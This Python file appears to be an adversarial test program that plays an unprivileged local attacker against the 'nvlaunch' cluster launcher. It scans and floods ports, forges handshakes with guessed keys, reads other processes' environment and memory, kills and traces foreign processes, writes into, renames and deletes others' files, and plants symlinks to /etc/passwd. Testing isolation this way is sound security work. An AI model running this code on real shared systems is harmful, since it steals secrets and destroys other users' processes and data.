"""What a user without privileges tries on a node of somebody else's run: started there as a program of its own.

    python3 attacker.py SECONDS ADDRESS...

Everything that it could read or was told goes into the file `loot` of its working folder; what it tried and what came
of it to stdout, as JSON. It ends after one round, or after so many seconds of rounds. ADDRESS are machines of the run.
"""

import contextlib
import ctypes
import fcntl
import hashlib
import hmac
import json
import os
import random
import re
import signal
import socket
import stat
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

MOST = 1 << 20
LEASES = ("/run/lock", "/tmp")
HERE = Path.cwd()

tried: Counter[str] = Counter()
won: Counter[str] = Counter()
loot = (HERE / "loot").open("ab")


def keep(what: str, data: bytes) -> None:
    """Write down what was read or said."""
    loot.write(b"\n== %s\n%s\n" % (what.encode(errors="replace"), data))


# the network


def listening() -> set[int]:
    """Return the TCP ports of this machine that somebody listens on."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            rows = [line.split() for line in Path(table).read_text().splitlines()[1:]]
            found |= {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
    return found


REQUESTS = [{"op": op, "protocol": 2} for op in ("hello", "status", "environment", "kill", "stop", "supervisor")]
SPOKEN = (
    b"",
    b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /nodes?view=summary HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + os.urandom(200),
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32),
    b"".join(b"ghost-%d\n" % at for at in range(20)),
    b"\tr1n1\nr1n1\n\tr1n2\nr1n2\n",
    os.urandom(3000),
    *(json.dumps(one).encode() for one in REQUESTS),
)


def talk(kind: int, where: object, said: bytes) -> None:
    """Say something to a socket, and write down what it says."""
    with socket.socket(kind) as link, contextlib.suppress(OSError):
        link.settimeout(0.15)
        link.connect(where)
        tried["connected"] += 1
        greeting = b""
        with contextlib.suppress(OSError):
            greeting = link.recv(4096)
        if greeting.startswith(b"nvlaunch-heartbeat"):
            tried["heartbeat server greeted"] += 1
            said = said or forged(greeting.split()[-1])
        link.sendall(said)
        with contextlib.suppress(OSError):
            link.shutdown(socket.SHUT_WR)
        answer = greeting
        with contextlib.suppress(OSError):
            while (part := link.recv(65536)) and len(answer) < MOST:
                answer += part
        keep(f"{where} {said[:20]!r}", answer)
        if re.search(rb"\bok [0-9a-f]{32}\n", answer) or b'"ok": true' in answer or b'"ok":true' in answer:
            won[f"was served by {where}"] += 1


def forged(theirs: bytes) -> bytes:
    """Return the answer to a greeting with a key that is guessed."""
    key = random.choice([b"", bytes(32), b"0" * 64, hashlib.sha256(b"nvlaunch").digest()])
    name, own = random.choice([b"r1n1", b"r1n2", b"ghost-1", b"\t"]).hex().encode(), b"0" * 32
    node = hmac.new(key, b"node " + bytes.fromhex(name.decode()), "sha256").digest()
    session = hmac.new(node, b"session " + theirs + b" " + own, "sha256").digest()
    word = own + b" " + name
    proof = hmac.new(session, b"node 0 " + word, "sha256").hexdigest()[:32]
    return word + b" " + proof.encode() + b"\n"


BLOCKS = (*range(6400, 6500, 10), *range(7680, 9000, 40))
"""Where the ports of a raylet or of a head may begin; each has ten in a row."""


def reachable(addresses: list[str]) -> list[tuple[str, int]]:
    """Return the ports of runs that somebody listens on at each address."""
    found = []
    for address in addresses:
        for port in (first + at for first in BLOCKS for at in range(10)):
            tried["port"] += 1
            with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=0.1):
                found.append((address, port))
    return found


def ports(elsewhere: list[tuple[str, int]]) -> None:
    """Talk to all ports of the run here and elsewhere, in all protocols."""
    for port in sorted(port for port in listening() if 1024 < port < 65536):
        for said in random.sample(SPOKEN, 3):
            tried["port"] += 1
            talk(socket.AF_INET, ("127.0.0.1", port), said)
    for where in elsewhere:
        for said in (b"", random.choice(SPOKEN)):
            tried["port elsewhere"] += 1
            talk(socket.AF_INET, where, said)


def heads(elsewhere: list[tuple[str, int]]) -> list[tuple[str, int]]:
    """Return the ports at which a heartbeat server greets."""
    found = []
    for where in [*(("127.0.0.1", port) for port in sorted(listening())), *elsewhere]:
        with contextlib.suppress(OSError), socket.create_connection(where, timeout=0.1) as link:
            link.settimeout(0.3)
            if link.recv(64).startswith(b"nvlaunch-heartbeat"):
                found.append(where)
    return found


def crowd(where: list[tuple[str, int]]) -> None:
    """Crowd the heartbeat ports: many connections, slow ones, replays of one handshake."""
    for address in where:
        held = []
        for at in range(400):
            with contextlib.suppress(OSError):
                link = socket.create_connection(address, timeout=0.2)
                held.append(link)
                tried["crowding connection"] += 1
                if at % 3 == 0:
                    link.send(b"0" * random.randint(1, 900))
                if at % 50 == 0:
                    link.sendall(forged(link.recv(100).split()[-1]) * 3)
        for link in held[::2]:
            with contextlib.suppress(OSError):
                link.send(b"a")
        for link in held:
            link.close()
        for at in range(1, 20):
            talk(socket.AF_INET, address, b"" if at % 2 else SPOKEN[6])


def unix_sockets() -> None:
    """Talk to every Unix socket, with a name or abstract."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split(maxsplit=7)
        if len(words) == 8:
            tried["unix socket"] += 1
            name = words[7]
            talk(socket.AF_UNIX, "\0" + name[1:] if name.startswith("@") else name, random.choice(SPOKEN))
    for folder in Path("/tmp").glob("nvl-*"):
        for name in ("agent.sock", "supervisor.sock"):
            for request in REQUESTS:
                tried["unix socket"] += 1
                talk(socket.AF_UNIX, str(folder / name), json.dumps(request).encode())


# files


def walk(top: Path, depth: int = 6) -> Iterator[Path]:
    """Yield all that can be seen below a folder."""
    try:
        entries = list(top.iterdir())
    except OSError:
        return
    for path in entries:
        yield path
        with contextlib.suppress(OSError):
            if depth and stat.S_ISDIR(path.lstat().st_mode):
                yield from walk(path, depth - 1)


def folders() -> None:
    """Read, change, remove and replace what lies where everybody may look."""
    for top in ("/tmp", "/dev/shm", "/run/lock", "/var/tmp", "/home", "/root", "/run/user"):
        for path in walk(Path(top)):
            if HERE in (path, *path.parents):
                continue
            tried["path"] += 1
            with contextlib.suppress(OSError):
                if path.is_file():
                    with path.open("rb") as file:
                        keep(str(path), file.read(MOST))
                    tried["readable file"] += 1
            lease = "lease" in path.name or "nvlaunch" in path.name
            with contextlib.suppress(OSError):
                if path.lstat().st_uid != os.getuid() and path.is_file() and not lease:
                    with path.open("ab") as file:
                        file.write(b"\nattacked\n")
                    won[f"wrote into {path}"] += 1
            with contextlib.suppress(OSError):
                if path.lstat().st_uid != os.getuid():
                    path.rename(path.with_name("taken"))
                    won[f"moved {path}"] += 1
            with contextlib.suppress(OSError):
                if path.is_dir() and path.lstat().st_uid != os.getuid() and path.name.startswith("nvl-"):
                    (path / "agent.sock").symlink_to("/etc/passwd")
                    won[f"made a link in {path}"] += 1


def squat() -> None:
    """Make what a run of later might want: links, folders and pipes with its names."""
    target = HERE / "victim"
    target.write_text("untouched")
    for at in range(50):
        for top in ("/tmp", "/dev/shm"):
            path = Path(top) / f"nvl-{random.randrange(1 << 32):08x}"
            with contextlib.suppress(OSError):
                (path.symlink_to if at % 2 else path.mkdir)(*([target] if at % 2 else []))
                tried["squatted name"] += 1
    for at in range(6500, 6560, 10):
        with contextlib.suppress(OSError):
            Path(f"/run/lock/nvlaunch-ports.{at}").symlink_to(target)
            tried["squatted name"] += 1


def leases() -> None:
    """Lock, forge and replace leases."""
    for top in LEASES:
        for path in [*Path(top).glob("nvlaunch*"), *Path(top).glob(".nvlaunch*")]:
            tried["lease"] += 1
            with contextlib.suppress(OSError):
                handle = os.open(path, os.O_RDWR | os.O_NOFOLLOW | os.O_NONBLOCK)
                with contextlib.suppress(OSError):
                    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    fcntl.flock(handle, fcntl.LOCK_UN)
                    tried["free lease"] += 1
                    os.close(handle)
                    continue
                with contextlib.suppress(OSError):
                    fcntl.flock(handle, fcntl.LOCK_SH | fcntl.LOCK_NB)
                    won[f"shares the lease {path}"] += 1
                os.ftruncate(handle, 0)
                os.pwrite(handle, b"run `forged` (forged-1) of innocent@desk\n\x1b]0;owned\x07", 0)
                tried["forged lease"] += 1
                os.close(handle)
            with contextlib.suppress(OSError):
                if path.lstat().st_uid != os.getuid():
                    path.unlink()
                    won[f"removed the lease {path}"] += 1


# processes


def processes() -> None:
    """Read, signal and trace the processes of others."""
    libc = ctypes.CDLL(None, use_errno=True)
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            if entry.stat().st_uid == os.getuid():
                continue
        tried["process"] += 1
        pid = int(entry.name)
        for name in ("environ", "cmdline", "maps", "mem", "stack", "auxv", "status", "limits"):
            with contextlib.suppress(OSError), (entry / name).open("rb") as file:
                data = file.read(MOST)
                keep(f"{pid} {name}", data)
                if name in ("environ", "mem", "stack") and data:
                    won[f"read {name} of {pid}"] += 1
        for name in ("cwd", "root", "fd/0", "fd/3", "fd/5"):
            with contextlib.suppress(OSError):
                for path in list((entry / name).iterdir())[:50]:
                    keep(f"{pid} {name}", str(path).encode())
                    won[f"looked into {name} of {pid}"] += 1
        for number in (0, signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                won[f"signalled {pid}"] += 1
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if libc.ptrace(request, pid, None, None) == 0:
                won[f"traces {pid}"] += 1


def main() -> None:
    """Try all of it, once or for some time."""
    until, addresses = time.monotonic() + float(sys.argv[1]), sys.argv[2:]
    where: list[tuple[str, int]] | None = None
    while True:
        elsewhere = reachable(addresses)
        where = heads(elsewhere) if where is None else where
        tried["heartbeat server"] = len(where)
        processes()
        leases()
        squat()
        folders()
        unix_sockets()
        crowd(where)
        ports(elsewhere)
        tried["round"] += 1
        if time.monotonic() >= until:
            break
    loot.close()
    print(json.dumps({"tried": tried, "won": won}))


main()
